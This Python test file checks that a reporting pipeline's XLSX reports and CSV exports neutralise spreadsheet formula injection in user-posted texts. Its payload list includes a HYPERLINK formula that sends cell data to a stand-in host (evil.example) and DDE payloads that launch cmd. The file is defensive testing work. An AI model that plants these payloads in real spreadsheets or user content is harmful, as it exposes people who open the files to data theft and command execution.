"""Formula injection: texts from posts never become live formulas in the XLSX report or the CSV export."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime, timedelta, timezone

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from pipeline.cells import csv_cell, csv_uncell, starts_formula
from storage import events as ev
from storage.models import Authority, Incident

UTC = timezone.utc
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")',
    "+7 (999) 1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def test_csv_cell_quotes_only_formula_starts():
    for p in PAYLOADS:
        assert starts_formula(p)
        assert csv_cell(p) == "'" + p
    for ok in ["Нет воды на Ленина, 5", "", "100", "2025-11-02T09:02:00+07:00", "a=b", "e-mail"]:
        assert csv_cell(ok) == ok
    assert csv_cell(-5) == -5 and csv_cell(None) is None and csv_cell(3.5) == 3.5
    assert csv_cell(["=x"]) == '["=x"]'  # JSON of a list starts with "[": not a formula


def test_csv_quoting_is_reversible():
    """`cur import` undoes exactly the quoting `cur export` adds (docs/security.md)."""
    for t in PAYLOADS + ["'=x", "''=x", "'plain", "'", "", "-5", "' =1", "обычный текст"]:
        assert csv_uncell(csv_cell(t)) == t, t
        assert not starts_formula(csv_cell(t))
    assert csv_cell("'=x") == "''=x" and csv_cell("'plain") == "'plain"
    assert csv_uncell("'plain") == "'plain"  # an apostrophe csv_cell did not add stays


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@ \t\r\nab\uff1d\u00a0")), max_size=8) | st.text(max_size=12))
def test_csv_quoting_round_trips_any_text(t):
    assert csv_uncell(csv_cell(t)) == t
    assert not starts_formula(csv_cell(t))


def test_xlsx_report_keeps_post_texts_as_text(db, tmp_path):
    from config import Settings, load_configuration
    from pipeline.reports import OverdueRow, build_report, write_xlsx

    profile = load_configuration(Settings()).regions["kuzbass"]
    with db.session() as s:
        report = build_report(s, profile, "2025-11", datetime(2025, 12, 5, tzinfo=UTC))
    t = datetime(2025, 11, 3, 3, tzinfo=UTC)
    report.overdue = [OverdueRow(i, p, "=орган", "+ЖКХ", "-Кемерово", t, ["первичный ответ"], t, None) for i, p in enumerate(PAYLOADS, 1)]
    path = tmp_path / "r.xlsx"
    write_xlsx(report, path)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name), name  # no formula anywhere in the workbook
    sheet = load_workbook(path)["Просроченные"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[1].value for r in rows] == PAYLOADS  # the text exactly as posted
    assert all(r[1].data_type == "s" and r[2].data_type == "s" for r in rows)


def test_xlsx_fakes_sheet_keeps_claims_as_text(db, tmp_path):
    """Claims come from operators and back offices (``POST /api/fakes``): never formulas in the «Возможные фейки» sheet."""
    from config import Settings, load_configuration
    from pipeline.reports import FakeFigures, build_report, write_xlsx

    profile = load_configuration(Settings()).regions["kuzbass"]
    with db.session() as s:
        report = build_report(s, profile, "2025-11", datetime(2025, 12, 5, tzinfo=UTC))
    report.fakes = FakeFigures(len(PAYLOADS), 0, 0, 0, [(p, "-" + p, None, 1, 0, 0) for p in PAYLOADS])
    path = tmp_path / "r.xlsx"
    write_xlsx(report, path)
    with zipfile.ZipFile(path) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
    rows = list(load_workbook(path)["Возможные фейки"].iter_rows(min_row=8))
    assert [r[0].value for r in rows] == PAYLOADS and [r[1].value for r in rows] == ["-" + p for p in PAYLOADS]
    assert all(r[0].data_type == "s" and r[1].data_type == "s" for r in rows)


def test_export_incidents_csv_neutralises_formulas(db, cur):
    with db.session() as s:
        a = Authority(region="kuzbass", code="min_housing_roads", name="Министерство ЖКХ", role="ministry")
        s.add(a)
        s.flush()
        for p in PAYLOADS[:4]:
            s.add(Incident(region="kuzbass", title=p, sector="housing", state=ev.ROUTED, authority_id=a.id,
                           created_at=datetime(2025, 11, 2, tzinfo=UTC), routed_at=datetime(2025, 11, 2, tzinfo=UTC),
                           first_reply_due=datetime(2025, 11, 2, tzinfo=UTC) + timedelta(hours=8)))  # fmt: skip
    r = cur("export", "incidents", "--format", "csv")
    assert r.returncode == 0, r.stderr
    titles = sorted(row["title"] for row in csv.DictReader(io.StringIO(r.stdout)))
    assert titles == sorted("'" + p for p in PAYLOADS[:4])
    # JSONL is data for programs: the text is kept exactly
    r = cur("export", "incidents", "--format", "jsonl")
    assert sorted(json.loads(line)["title"] for line in r.stdout.splitlines()) == sorted(PAYLOADS[:4])
